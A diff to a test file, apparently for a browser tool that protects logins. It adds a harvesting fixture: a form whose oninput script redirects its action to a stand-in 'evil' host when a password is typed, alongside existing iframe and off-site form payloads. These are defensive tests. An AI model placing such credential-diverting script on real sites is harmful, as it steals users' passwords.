@@ -102,7 +102,7 @@ HARVESTS = {
     "frame of another site": ("shop", "<iframe src='{evil}/form'></iframe>", "frame of http://evil"),
     "its page framed by another": ("evil", "<iframe src='{shop}/form'></iframe>", "this page is"),
     "sandboxed frame": ("shop", "<iframe sandbox src=/form></iframe>", "frame of null"),
-    "frame without an address": ("shop", "<iframe srcdoc='{form}'></iframe>", "in a frame of http"),
+    "frame without an address": ("shop", "<iframe srcdoc='{form}'></iframe>", "no address of its"),
     "form for another site": (
         "shop",
         f"<form method=post action='{{evil}}/x'>{FIELDS}</form>",
@@ -153,8 +153,20 @@ def test_no_page_gets_a_login_that_is_not_its_own(browser, site, shop):
         assert said in reply, how
         assert held(browser) in ("", USER), how
         ended[how] = reply
+    late = FORM.replace(
+        "<form", f"<form oninput=\"event.target.name == 'pw' && (action = '{evil}/x')\""
+    )
+    site.page("/harvest/late", late)
+    browser.post("goto", f"{shop}/harvest/late")
+    reply = json.loads(browser.ask("POST", "/command", asked)[1])["error"]
+    assert f"is sent to {evil}" in reply
+    assert "Typed before that: user name and password; nothing was sent" in reply
+    assert f"{shop}/harvest/late" in browser.post("url")
     assert len(ended) == len(HARVESTS)
-    assert all("Nothing was typed" in it or "Only the user name" in it for it in ended.values())
+    assert all(
+        "Nothing was typed" in it or "Typed before that: user name; nothing was sent" in it
+        for it in ended.values()
+    )
 
 
 # A page of the right site that shows the password to everybody.
@@ -190,6 +202,8 @@ def test_a_page_that_shows_the_password_shows_it_to_nobody_here(browser, site, s
         replies += [browser.post(*words), browser.post(*words, "--reveal", "--json")]
     browser.ok("network", "--export", "bodies.jsonl", "--reveal")
     browser.ok("har", "stop")
+    browser.ok("js", "document.documentElement.outerHTML", "--out", "page.html")
+    browser.ok("archive", "page.mhtml")
     browser.ok("state", "save", "ignored")
 
     assert any("You typed ****" in reply for reply in replies)
@@ -197,7 +211,9 @@ def test_a_page_that_shows_the_password_shows_it_to_nobody_here(browser, site, s
     files = [path for path in browser.root.rglob("*") if path.is_file()]
     leaks = [path.name for path in files if PASSWORD.encode() in path.read_bytes()]
     assert leaks == ["ignored.json"]  # what a site stores itself is part of a saved state
-    assert {"kept.har", "bodies.jsonl", "browse-audit.jsonl"} <= {path.name for path in files}
+    assert {"kept.har", "bodies.jsonl", "page.html", "browse-audit.jsonl"} <= {
+        path.name for path in files
+    }
     browser.ok("state", "rm", "ignored")
 
 
